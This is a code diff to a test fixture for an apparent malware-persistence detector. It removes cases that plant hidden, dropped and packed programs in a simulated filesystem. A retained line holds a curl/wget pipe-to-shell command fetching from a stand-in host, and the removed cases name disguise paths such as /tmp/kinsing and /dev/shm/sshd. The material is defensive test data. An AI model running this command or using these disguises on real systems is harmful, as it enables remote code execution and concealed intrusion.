@@ -6,8 +6,6 @@ import { inertProgram, type MechanismCase } from '../../../../test/persistence/c
 
 const script = '#!/bin/sh\n(curl -fsSL http://192.0.2.66/x.sh || wget -qO- http://192.0.2.66/x.sh) | sh\n';
 const program = inertProgram(9000);
-const packed = Uint8Array.from(program);
-packed.set([0x55, 0x50, 0x58, 0x21], 236);
 const packaged = inertProgram(7000);
 
 const setuid: readonly MechanismCase[] = [
@@ -121,103 +119,6 @@ const immutable: readonly MechanismCase[] = [
         immutable: true,
       },
     },
-  },
-];
-
-const hidden: readonly MechanismCase[] = [
-  {
-    mechanism: 'hidden-program',
-    dress: 'fetch-and-run',
-    what: 'a hidden script that fetches',
-    planted: { '/var/lib/.x/upd.sh': { content: script, mode: 0o755 } },
-  },
-  {
-    mechanism: 'hidden-program',
-    dress: 'unowned-binary',
-    what: 'a hidden program beside owned ones',
-    planted: { '/usr/lib/systemd/.systemd-resolve': { content: program, mode: 0o755 } },
-  },
-  {
-    mechanism: 'hidden-program',
-    dress: 'owned-edit',
-    what: 'a script that a package brought hidden, with a line added',
-    packaged: { '/usr/share/app/.helper/run.sh': '#!/bin/sh\nexit 0\n' },
-    planted: { '/usr/share/app/.helper/run.sh': { content: script, mode: 0o755 } },
-  },
-  {
-    mechanism: 'hidden-program',
-    dress: 'honest',
-    what: 'nvm, cargo and a virtual environment in a home',
-    planted: {
-      '/home/ada/.nvm/versions/node/v20/bin/node': { content: program, mode: 0o755, uid: 1000 },
-      '/home/ada/.cargo/bin/rg': { content: program, mode: 0o755, uid: 1000 },
-      '/home/ada/app/.venv/bin/python': { content: program, mode: 0o755, uid: 1000 },
-    },
-  },
-];
-
-const dropped: readonly MechanismCase[] = [
-  {
-    mechanism: 'dropped-program',
-    dress: 'fetch-and-run',
-    what: 'a script that fetches in /var/tmp',
-    planted: { '/var/tmp/init.sh': { content: script, mode: 0o777 } },
-  },
-  {
-    mechanism: 'dropped-program',
-    dress: 'unowned-binary',
-    what: 'a program in /dev/shm with the name of a service',
-    planted: { '/dev/shm/sshd': { content: program, mode: 0o755 } },
-  },
-  {
-    mechanism: 'dropped-program',
-    dress: 'owned-edit',
-    what: 'a program among the files of a web server; no package brings a file into /tmp',
-    packaged: { '/var/www/html/index.html': '<p>It works</p>\n' },
-    planted: { '/var/www/html/assets/font': { content: program, mode: 0o755, uid: 33 } },
-  },
-  {
-    mechanism: 'dropped-program',
-    dress: 'honest',
-    what: 'a checkout in a web root whose scripts are executable, and data in /tmp',
-    planted: {
-      '/var/www/html/bin/console': { content: '#!/usr/bin/env php\n<?php echo 1;\n', mode: 0o755, uid: 33 },
-      '/tmp/upload.tmp': 'a,b,c\n',
-    },
-  },
-];
-
-const packedCases: readonly MechanismCase[] = [
-  {
-    mechanism: 'packed-program',
-    dress: 'fetch-and-run',
-    what: 'a packed program with an address in it',
-    planted: {
-      '/tmp/kinsing': {
-        content: Buffer.concat([packed, Buffer.from('http://192.0.2.66/x.sh|sh')]),
-        mode: 0o755,
-      },
-    },
-  },
-  {
-    mechanism: 'packed-program',
-    dress: 'unowned-binary',
-    what: 'a packed program in a folder of owned ones',
-    planted: { '/usr/sbin/apt-helperd': { content: packed, mode: 0o755 } },
-  },
-  {
-    mechanism: 'packed-program',
-    dress: 'owned-edit',
-    what: 'a packed program hidden beside a packaged one',
-    packaged: { '/opt/agent/agent': packaged },
-    planted: { '/opt/agent/.agent': { content: packed, mode: 0o755 } },
-  },
-  {
-    mechanism: 'packed-program',
-    dress: 'honest',
-    what: 'a packed program that a package brought',
-    packaged: { '/usr/bin/tool': packed },
-    planted: {},
   },
 ];
 
@@ -370,6 +271,6 @@ const limits: readonly MechanismCase[] = [
 ];
 
 export const cases: readonly MechanismCase[] = [
-  ...[...setuid, ...capabilities, ...immutable, ...hidden, ...dropped, ...packedCases],
+  ...[...setuid, ...capabilities, ...immutable],
   ...[...names, ...resolver, ...firewall, ...kernel, ...limits],
 ];
